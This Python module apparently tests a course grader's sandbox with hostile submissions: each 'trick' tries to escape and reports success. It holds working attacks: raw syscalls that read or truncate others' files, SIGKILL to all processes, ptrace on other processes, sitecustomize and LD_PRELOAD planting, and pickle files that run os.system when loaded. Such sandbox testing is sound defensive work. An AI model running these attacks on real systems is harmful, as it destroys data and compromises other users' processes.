"""Out of the sandbox: network, signals, tracing, other users, programs, calls by number, links."""

import ctypes
import fcntl
import mmap
import os
import pickle
import platform
import resource
import shutil
import signal
import site
import socket
import subprocess
import sys
from pathlib import Path

from kit import TARGETS, attempt, gained, libc, others, spoil, steal, syscall, trick

FILES = TARGETS.get("files", ())
X32 = 0x40000000
CLONE_PARENT, CLONE_NEWUSER, SIGCHLD = 0x8000, 0x10000000, 17
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
NEEDLESS = "uses calls of the kernel that no node needs"


@trick()
def change_mounts():
    """Come out of its mounts: another root, the lid of /tmp taken off, its own folder larger."""
    for body in (
        lambda: os.chroot("/proc/self"),
        lambda: os.unshare(0x10020000),
        lambda: os.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY)),
    ):
        with attempt():
            body()
            gained("mounts a file system: it has another root")
    for place in (os.getcwd(), os.path.dirname(os.getcwd()), "/tmp", "/dev/shm"):
        if libc.umount2(place.encode(), 2) == 0:
            gained(f"mounts a file system: it took away {place}")
        for flags, options in ((0, b"size=8g"), (32, b"size=8g,nr_inodes=0")):
            if libc.mount(b"none", place.encode(), b"tmpfs", flags, options) == 0:
                gained(f"mounts a file system: it changed {place}")
    for path in FILES:
        steal(path)


@trick("died", "hung", "exception", score=0)
def close_everything(node, scan):
    """Close the link and the output, and go on in silence."""
    os.closerange(0, 60)


@trick()
def calls_by_number():
    """Go round Python: calls by number, also of the x32 table, and some that filters can't read."""
    buffer = ctypes.create_string_buffer(160)
    time = (ctypes.c_long * 32)(1)
    for path in FILES:
        for base in (0, X32):
            fd = syscall(base + 2, path.encode(), 0)
            if fd >= 0 and syscall(base, fd, buffer, ctypes.c_size_t(64)) > 0:
                print(f"LOOT {buffer.raw!r}")
                gained("reads files that are not its own: by number")
        for flags in (os.O_RDONLY, os.O_TRUNC, os.O_ACCMODE | os.O_TRUNC, os.O_PATH):
            how = (ctypes.c_uint64 * 3)(flags, 0, 0)
            if syscall(437, -100, path.encode(), how, 24) >= 0:
                gained(f"{NEEDLESS}: openat2")
    for number, name, arguments in (
        (41, "socket", (2, 1, 0)),
        (41, "socket", (1, 1, 0)),
        (101, "ptrace", (0, 0, 0, 0)),
        (272, "unshare", (0,)),
        (321, "bpf", (0, None, 0)),
        (298, "perf_event_open", (None, 0, -1, -1, 0)),
        (323, "userfaultfd", (1,)),
        (319, "memfd_create", (b"x", 0)),
        (447, "memfd_secret", (0,)),
        (154, "modify_ldt", (0, buffer, ctypes.c_size_t(16))),
        (31, "shmctl", (0, 14, buffer)),  # SHM_INFO
        (66, "semctl", (0, 0, 19, buffer)),  # SEM_INFO
        (71, "msgctl", (0, 12, buffer)),  # MSG_INFO
    ):
        for base in (0, X32):
            if syscall(base + number, *arguments) >= 0:
                gained(f"{NEEDLESS}: {name}{' of x32' if base else ''}")
    for number, name, arguments in (
        (425, "io_uring", (4, buffer)),
        (428, "open_tree", (-100, b"/", 1)),
        (430, "fsopen", (b"tmpfs", 0)),
        (227, "clock_settime", (0, time)),
        (164, "settimeofday", (time, None)),
        (159, "adjtimex", (time,)),
        (305, "clock_adjtime", (0, time)),
        (248, "add_key", (b"user", b"course", b"x", 1, -3)),
        (317, "seccomp", (2, 0, (ctypes.c_uint32 * 1)(0x7FFC0000))),  # may a filter write a log?
        (444, "landlock_create_ruleset", ((ctypes.c_uint64 * 1)(4), ctypes.c_size_t(8), 0)),
    ):
        if syscall(number, *arguments) >= 0:
            gained(f"{NEEDLESS}: {name}")
    for get, forget, arguments in (
        (libc.shmget, libc.shmctl, (4096, 0o1600)),
        (libc.msgget, libc.msgctl, (0o1600,)),
        (libc.semget, libc.semctl, (1, 0o1600)),
    ):
        if (found := get(0x5EED, *arguments)) >= 0:
            forget(found, 0, 0)
            gained(f"{NEEDLESS}: {get.__name__}")


@trick()
def empty_by_opening():
    """Empty files of others by opening them to read, or with the access mode 3 for neither."""
    for path in FILES:
        for mode in (os.O_RDONLY, os.O_ACCMODE, os.O_WRONLY, os.O_RDWR):
            with attempt():
                os.close(os.open(path, mode | os.O_TRUNC))


@trick()
def links():
    """Link others' files into its folder, swap them with its own, leave ways out for who copies."""
    for number, path in enumerate(FILES):
        for name, make in (("link", os.link), ("rename", os.rename)):
            with attempt():
                make(path, f"{name}-{number}")
                gained(f"reads files that are not its own: {name}")
        with attempt():
            own = os.path.abspath(f"own-{number}")
            open(own, "w").close()
            exchange = (-100, own.encode(), -100, path.encode(), ctypes.c_uint(2))
            if syscall(316, *exchange) == 0:
                gained("changes files of others: swapped")
        with attempt():
            os.symlink(path, f"soft-{number}")
            steal(f"soft-{number}")
            spoil(f"soft-{number}")
    for number, folder in enumerate(TARGETS.get("folders", ())):
        with attempt():
            os.symlink(folder, f"out-{number}")
            os.mkdir(f"in-{number}")
            os.symlink(folder, f"in-{number}/out")
    with attempt():
        os.mkfifo("velocity_model.pkl")


@trick("completed", "exception")
def take_its_folder_away():
    """Take its own folder away, and leave a link in its place."""
    own = os.getcwd()
    for take_away in (os.rmdir, lambda path: os.rename(path, path + "-gone"), shutil.rmtree):
        with attempt():
            take_away(own)
        with attempt():
            os.symlink(TARGETS["folders"][0], own)
            gained("writes where it may not: beside its own folder")


@trick()
def unnamed_file():
    """Make a file without a name, and give it one where others look."""
    mark = TARGETS.get("mark", "x")
    fd = -1
    with attempt():
        fd = os.open(".", os.O_TMPFILE | os.O_RDWR, 0o666)
    for folder in ("/tmp", "/var/tmp", "..", "/dev", TARGETS.get("watched", "/root")):
        with attempt():
            os.link(f"/proc/self/fd/{fd}", f"{folder}/{mark}-unnamed", follow_symlinks=True)
        with attempt():
            os.mkdir(f"{folder}/{mark}-folder")
        with attempt():
            os.mkfifo(f"{folder}/{mark}-fifo")


@trick("any")
def kill_all():
    """Kill the bystander, then everything that can be killed."""
    with attempt():
        if TARGETS.get("bystander", 0) > 1:
            os.kill(TARGETS["bystander"], signal.SIGKILL)
            gained("signals other processes: SIGKILL")
    if TARGETS.get("all"):  # only where the layers are on: this machine is not ours alone
        for everything in (-1, 0, -os.getppid()):
            with attempt():
                os.kill(everything, signal.SIGKILL)
                gained("signals other processes: all")


@trick()
def signals():
    """Signal others with signal 0, and a listener through a pipe that signals whom it is told."""
    for pid in others():
        with attempt():
            os.kill(pid, 0)
            gained("signals other processes: kill")
        if syscall(234, pid, pid, 0) == 0:
            gained("signals other processes: tgkill")
        if syscall(200, pid, 0) == 0:
            gained("signals other processes: tkill")
    victims = [(pid, signal.SIGCONT) for pid in others()]
    victims += [(TARGETS.get("listener", 0), signal.SIGUSR2)]  # only it knows whether it came
    for pid, number in victims:
        with attempt():
            ours, theirs = os.pipe()
            fcntl.fcntl(ours, fcntl.F_SETSIG, number)
            fcntl.fcntl(ours, fcntl.F_SETOWN, pid)
            fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(theirs, b"x")


@trick("hung", "died", score=0)
def stop_itself(node, scan):
    """Stop, so that nobody can tell whether it lives, and be continued by nobody."""
    os.kill(os.getpid(), signal.SIGSTOP)


class Limit(ctypes.Structure):
    """A soft and a hard limit."""

    _fields_ = (("soft", ctypes.c_uint64), ("hard", ctypes.c_uint64))


@trick()
def limits():
    """Change resource limits and priorities: others' means away, more for itself."""
    what = "changes limits and priorities of other processes"
    for pid in others():
        if libc.prlimit(pid, resource.RLIMIT_CORE, ctypes.byref(Limit(0, 0)), None) == 0:
            gained(f"{what}: limits")
        with attempt():
            before = os.getpriority(os.PRIO_PROCESS, pid)
            os.setpriority(os.PRIO_PROCESS, pid, before + 1)
            if os.getpriority(os.PRIO_PROCESS, pid) != before:
                gained(f"{what}: priority")
        with attempt():
            os.sched_setscheduler(pid, os.SCHED_BATCH, os.sched_param(0))
            if os.sched_getscheduler(pid) == os.SCHED_BATCH:
                gained(f"{what}: scheduling")
        if syscall(251, 1, pid, (2 << 13) | 7) == 0 and syscall(252, 1, pid) == (2 << 13) | 7:
            gained(f"{what}: disk")
    for limit in (resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE):
        with attempt():
            _, hard = resource.getrlimit(limit)
            resource.setrlimit(limit, (hard + 1, hard + 1))
            gained(f"{what}: its own hard limit")
    for value in ("-1000", "-17", "0"):
        for name in ("oom_score_adj", "oom_adj"):
            with attempt():
                with open(f"/proc/self/{name}", "w") as file:
                    file.write(value)
                gained(f"{what}: shielded from memory's end")


class Piece(ctypes.Structure):
    """A piece of memory."""

    _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))


@trick()
def ptrace():
    """Trace others, read and write their memory by other calls, take their descriptors."""
    for pid in others():
        if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
            libc.ptrace(PTRACE_DETACH, pid, None, None)
            gained("traces other processes")
        own = ctypes.create_string_buffer(8)
        here = Piece(ctypes.addressof(own), 8)
        there = Piece(0x400000, 8)
        one = ctypes.c_ulong(1)
        if syscall(310, pid, ctypes.byref(here), one, ctypes.byref(there), one, 0) > 0:
            gained("opens the memory of other processes")
        pidfd = syscall(434, pid, 0)
        if pidfd >= 0:
            gained(f"{NEEDLESS}: pidfd_open")
            if syscall(438, pidfd, 1, 0) >= 0:
                gained("takes a descriptor from a process")


def born(pid, how):
    """Boast of a new process, and end in it."""
    if pid == 0:
        os._exit(0)
    if pid > 0:
        gained(f"starts processes: with {how}")


@trick()
def processes():
    """Make processes by every call that makes them, with odd flags, and by machine code."""
    born(syscall(57), "fork")
    for flags in (0, 0x100, 0x1000, 0x4000 | 0x100, CLONE_PARENT, CLONE_NEWUSER):
        born(syscall(56, flags | SIGCHLD, 0, 0, 0, 0), f"clone and {flags:#x}")
    request = (ctypes.c_uint64 * 8)(0, 0, 0, 0, SIGCHLD, 0, 0, 0)
    born(syscall(435, ctypes.byref(request), ctypes.c_size_t(64)), "clone3")
    with attempt():
        if platform.machine() == "x86_64":
            page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
            page.write(bytes.fromhex("b8390000000f05c3"))  # mov eax, 57 (fork); syscall; ret
            start = ctypes.addressof(ctypes.c_char.from_buffer(page))
            born(ctypes.CFUNCTYPE(ctypes.c_long)(start)(), "machine code")


@trick()
def programs():
    """Start programs: a shell, one of its own, one through the loader."""
    with attempt():
        gained(f"starts programs: {subprocess.check_output(['/bin/echo', 'yes'], timeout=5)}")
    with attempt():
        if os.system("true") == 0:
            gained("starts programs: a shell")
    with attempt():
        shutil.copyfile("/bin/true", "own")
        os.chmod("own", 0o755)
        if libc.execve(b"own", None, None) == 0:
            gained("unreachable")
    with attempt():
        child = os.posix_spawn("/bin/true", ["true"], {})
        os.waitpid(child, 0)
        gained("starts programs: spawned")


@trick()
def another_user():
    """Become somebody else, or root of a world of its own."""
    for call in (
        lambda: os.setuid(0),
        lambda: os.setresuid(0, 0, 0),
        lambda: os.setgroups([0]),
        lambda: os.setuid(65534),
    ):
        with attempt():
            before = os.getresuid(), os.getgroups()
            call()
            if (os.getresuid(), os.getgroups()) != before:
                gained("becomes another user")
    for flag, name in ((0x10000000, "user"), (0x00020000, "mount"), (0x40000000, "network")):
        if libc.unshare(flag) == 0:
            gained(f"makes namespaces: {name}")


@trick()
def sockets():
    """Have sockets of every kind; talk to this machine, and listen for callers."""
    for name, family, kind, protocol in (
        ("TCP", socket.AF_INET, socket.SOCK_STREAM, 0),
        ("UDP", socket.AF_INET, socket.SOCK_DGRAM, 0),
        ("raw", socket.AF_INET, socket.SOCK_RAW, 1),
        ("IPv6", socket.AF_INET6, socket.SOCK_DGRAM, 0),
        ("packet", 17, socket.SOCK_RAW, 0),
        ("vsock", 40, socket.SOCK_STREAM, 0),
        ("crypto", 38, socket.SOCK_SEQPACKET, 0),
        ("key", 15, socket.SOCK_RAW, 2),
    ):
        with attempt(), socket.socket(family, kind, protocol):
            gained(f"has a socket: {name}")
    with attempt(), socket.socket() as link:
        link.settimeout(0.2)
        link.connect(("127.0.0.1", TARGETS["tcp"]))
        link.sendall(b"hello from a submission")
        gained("talks to this machine: TCP")
    with attempt(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as speaker:
        speaker.sendto(b"hello from a submission", ("127.0.0.1", TARGETS["udp"]))
    with attempt(), socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        gained("listens on the network")


@trick()
def unix_sockets():
    """Connect to sockets of other programs, by path and abstract; hold a name that graders hold."""
    for address in (TARGETS.get("unix", ""), "\0" + TARGETS.get("abstract", "")):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            with attempt(), socket.socket(socket.AF_UNIX, kind) as link:
                link.settimeout(0.2)
                link.connect(address)
                gained("talks to this machine: Unix socket")
    with attempt(), socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as keeper:
        keeper.bind("\0rclpy-agents-course/user/61999")
        gained("holds a name that graders hold")


@trick()
def shared_memory():
    """Use /dev/shm to leave something for the next trial, and look for what another has left."""
    with attempt():
        for name in os.listdir("/dev/shm"):
            if name.startswith(("course-left", TARGETS.get("mark", "course-left"))):
                gained("finds what another trial left in shared memory")
    with attempt(), open(f"/dev/shm/{TARGETS.get('mark', 'course-left')}-note", "w") as file:
        file.write("for the next")


@trick()
def start_files():
    """Plant code for the next Python: among the libraries, beside itself, in its environment."""
    places = [*sys.path, *site.getsitepackages(), site.getusersitepackages(), sys.prefix]
    for place in filter(None, dict.fromkeys(places)):
        path = Path(place) / f"{TARGETS.get('mark', 'course-mark')}.pth"
        with attempt():
            path.write_text("# nothing: this machine is not ours alone\n")
            path.unlink()
            if Path(place).resolve() != Path.cwd().resolve():
                gained("plants code among the libraries")
    for name in ("sitecustomize.py", "usercustomize.py", "planted.pth", "rclpy.py", "numpy.py"):
        with attempt():
            Path(name).write_text("print('planted')\n")
    os.environ["PYTHONPATH"] = os.getcwd()
    os.environ["LD_PRELOAD"] = "evil.so"


class Payload:
    """Runs a command when it is unpickled."""

    def __reduce__(self):
        return os.system, (f"touch {TARGETS.get('watched', '.')}/payload",)


@trick()
def pickles():
    """Leave a pickle with a payload under each name that somebody might load."""
    for name in ("velocity_model.pkl", "model.pkl", "kit.pkl", "recording.pkl"):
        with open(name, "wb") as file:
            pickle.dump(Payload(), file)
